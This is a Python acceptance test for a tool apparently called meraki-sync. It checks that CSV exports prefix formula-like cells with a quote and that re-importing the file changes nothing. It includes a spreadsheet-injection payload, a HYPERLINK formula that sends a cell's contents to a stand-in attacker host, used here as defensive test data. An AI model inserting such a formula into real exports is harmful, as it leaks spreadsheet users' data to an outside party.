"""`meraki-sync map export` as a spreadsheet user opens it: no cell is a formula, and importing
the export back (a real process, a real database) changes no mapping."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import asyncpg

from daemon.core.errors import EXIT_OK
from daemon.store import Store
from tests.acceptance.conftest import cli

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Open")'


async def test_exported_cells_are_not_formulas_and_import_restores_them(
    store: Store, db: asyncpg.Connection, database_dsn: str, tmp_path: Path
) -> None:
    """Names and ids starting with =, +, -, @ export as `'`-prefixed text; re-import is a no-op."""
    config = tmp_path / "map.toml"
    config.write_text(f'[database]\ndsn = "{database_dsn}"\n', encoding="utf-8")
    typed = [
        ("549236", "L_646829496481105433", "acme", HYPERLINK),
        ("549236", "N_24329156", "-5", "+44 Ltd"),
        ("549237", "N_1", "@home", "'Tis Ltd"),
    ]
    for org, network, customer, name in typed:
        done = cli("--config", str(config), "map", "set", org, network, customer, "--name", name)
        assert done.code == EXIT_OK, done.stderr
    before = await db.fetch("SELECT * FROM meraki.customer_map ORDER BY 1, 2")
    out = tmp_path / "customers.csv"

    exported = cli("--config", str(config), "map", "export", "--output", str(out))
    assert exported.code == EXIT_OK, exported.stderr
    cells = [cell for row in csv.reader(io.StringIO(out.read_text("utf-8"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + HYPERLINK in cells
    assert "'-5" in cells
    assert "'Tis Ltd" in cells

    imported = cli("--config", str(config), "map", "import", str(out), "--replace")
    assert imported.code == EXIT_OK, imported.stderr
    assert "0 new, 0 changed, 3 unchanged, 0 removed" in imported.stdout
    after = await db.fetch("SELECT * FROM meraki.customer_map ORDER BY 1, 2")
    assert [tuple(r) for r in after] == [tuple(r) for r in before]
